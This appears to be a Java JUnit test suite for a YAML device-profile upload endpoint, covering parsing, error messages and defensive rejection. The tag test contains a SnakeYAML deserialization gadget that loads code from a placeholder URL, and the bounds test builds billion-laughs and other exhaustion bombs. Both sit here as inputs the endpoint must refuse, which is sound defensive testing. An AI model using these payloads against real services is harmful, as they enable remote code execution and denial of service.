package io.graft.metadata.internal;

import static io.graft.metadata.internal.Samples.object;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.graft.metadata.internal.Api.Answer;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

@Timeout(60)
class UploadTest {

    private static final String PROFILE =
            """
            name: "Thermo — 温度"
            manufacturer: Graft
            labels: [ "a", b ]
            deviceResources:
              -
                name: &first Temp
                isHidden: false
                attributes: { registerType: "HOLDING", address: 0x10, octal: 0o17, ratio: 1.50, on: yes, none: ~ }
                properties: &props
                  valueType: "float32"
                  readWrite: RW
                  minimum: -40
                  maximum: 1.25e2
                  defaultValue: 20.50
                  mask: 18446744073709551615
              -
                name: Set
                properties:
                  <<: *props
                  readWrite: W
                  minimum: 0
            deviceCommands:
              - name: Both
                isHidden: True
                readWrite: W
                resourceOperations:
                  - { deviceResource: *first, mappings: { 0: off, "1": "on" } }
                  - deviceResource: Set
            """;

    private final Api api = new Api();

    @Test
    void aProfileIsAddedAndReplacedFromYaml() {
        Answer added = api.post("/deviceprofile/uploadfile", PROFILE);

        assertThat(added.status()).isEqualTo(201);
        assertThat(added.body().get("id").asText()).hasSize(36);
        JsonNode profile = api.get("/deviceprofile/name/Thermo%20%E2%80%94%20%E6%B8%A9%E5%BA%A6")
                .body()
                .get("profile");
        assertThat(profile.at("/deviceResources/0/attributes").toString())
                .isEqualTo("{\"registerType\":\"HOLDING\",\"address\":16,\"octal\":15,\"ratio\":1.50,\"on\":\"yes\","
                        + "\"none\":null}");
        assertThat(profile.at("/deviceResources/0/properties").toString())
                .isEqualTo("{\"valueType\":\"Float32\",\"readWrite\":\"RW\",\"minimum\":-40,\"maximum\":125,"
                        + "\"defaultValue\":\"20.50\",\"mask\":18446744073709551615}");
        assertThat(profile.at("/deviceResources/1/properties"))
                .isEqualTo(object("{'valueType':'Float32','readWrite':'W','minimum':0,'maximum':125,"
                        + "'defaultValue':'20.50','mask':18446744073709551615}"));
        assertThat(profile.at("/deviceCommands/0/resourceOperations/0/mappings"))
                .isEqualTo(object("{'0':'off','1':'on'}"));

        assertThat(api.post("/deviceprofile/uploadfile", PROFILE).status()).isEqualTo(409);
        assertThat(api.put("/deviceprofile/uploadfile", PROFILE.replace("Graft", "Other"))
                        .body())
                .isEqualTo(object("{'apiVersion':'v3','statusCode':200}"));
        assertThat(api.get("/deviceprofile/manufacturer/Other").total()).isEqualTo(1);
        assertThat(api.put("/deviceprofile/uploadfile", "name: unknown").status())
                .isEqualTo(404);
    }

    @Test
    void aFormWithoutTheFileIs400() {
        for (String method : new String[] {"POST", "PUT"}) {
            Answer answer = api.call(method, "/deviceprofile/uploadfile", "");
            assertThat(answer.status()).isEqualTo(400);
            assertThat(answer.message()).isEqualTo("missing yaml file");
        }
    }

    @Test
    void whatIsNoProfileIs400WithTheReason() {
        Map<String, String> reasons = new LinkedHashMap<>();
        reasons.put("{}", "DeviceProfile.Name field is required");
        reasons.put("# nothing", "DeviceProfile.Name field is required");
        reasons.put("~", "yaml decoding failed: the file is empty");
        reasons.put("[a]", "body decoding failed: the body should be an object");
        reasons.put("just text", "body decoding failed: the body should be an object");
        reasons.put("name: [a]", "body decoding failed: name should be a string");
        reasons.put("name: p\nlabels: a", "body decoding failed: labels should be an array");
        reasons.put(
                "name: p\ndeviceResources: [{name: r, properties: {valueType: Int8, readWrite: R, minimum: '0'}}]",
                "body decoding failed: deviceResources[0].properties.minimum should be a number");
        reasons.put("name: p\nname: q", "yaml decoding failed: key 'name' is repeated at line 2");
        reasons.put("name: p\n---\nname: q", "yaml decoding failed: it has more than one document");
        reasons.put("name: {a", "yaml decoding failed: ");
        reasons.put("name: p\n? [a, b]\n: c", "yaml decoding failed: a key is not a scalar at line 2");
        reasons.put("name: *nowhere", "yaml decoding failed: alias *nowhere has no anchor before it at line 1");
        reasons.put("name: p\nlabels: &l [*l]", "yaml decoding failed: alias *l has no anchor before it at line 2");
        reasons.put("<<: 1\nname: p", "yaml decoding failed: a merge key (<<) has a value that is no mapping");
        reasons.put("\t", "yaml decoding failed: ");
        reasons.put("name: \"\\x\"", "yaml decoding failed: ");
        reasons.put("name: p\u0000", "yaml decoding failed: ");

        reasons.forEach((yaml, reason) -> {
            Answer answer = api.post("/deviceprofile/uploadfile", yaml);
            assertThat(answer.status()).as(yaml).isEqualTo(400);
            assertThat(answer.message()).as(yaml).startsWith(reason).doesNotContain("java.", "snakeyaml");
        });
        assertThat(api.get("/deviceprofile/all").total()).isZero();
    }

    @Test
    void tagsMakeNothing() {
        for (String yaml : new String[] {
            "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://h/']]]]",
            "!!java.util.Date {}",
            "name: !custom p",
            "name: !!binary aGk=",
            "name: !!str p",
            "!!map {name: p}",
            "!!str name: p",
            "name: ! p",
        }) {
            Answer answer = api.post("/deviceprofile/uploadfile", yaml);
            assertThat(answer.status()).as(yaml).isEqualTo(400);
            assertThat(answer.message()).contains("tag ").contains("is not allowed");
        }
    }

    @Test
    void bombsAreBounded() {
        StringBuilder laughs = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n");
        for (int i = 1; i < 30; i++) {
            laughs.append("a" + i + ": &a" + i + " [" + ("*a" + (i - 1) + ",").repeat(9) + "*a" + (i - 1) + "]\n");
        }
        String longText = "x".repeat(100_000);
        String[] bombs = {
            laughs.toString(),
            "t: &t " + longText + "\nname: p\nlabels: [" + "*t,".repeat(1000) + "]",
            "labels: " + "[".repeat(10_000),
            "labels: " + "{a: ".repeat(100) + "1" + "}".repeat(100),
            "labels: [" + "a,".repeat(300_000) + "]",
            "name: " + "y".repeat(3_000_001),
            "- ".repeat(100_000),
        };
        for (String bomb : bombs) {
            Answer answer = api.post("/deviceprofile/uploadfile", bomb);
            assertThat(answer.status()).isEqualTo(400);
            assertThat(answer.message()).startsWith("yaml decoding failed: ");
        }
    }
}
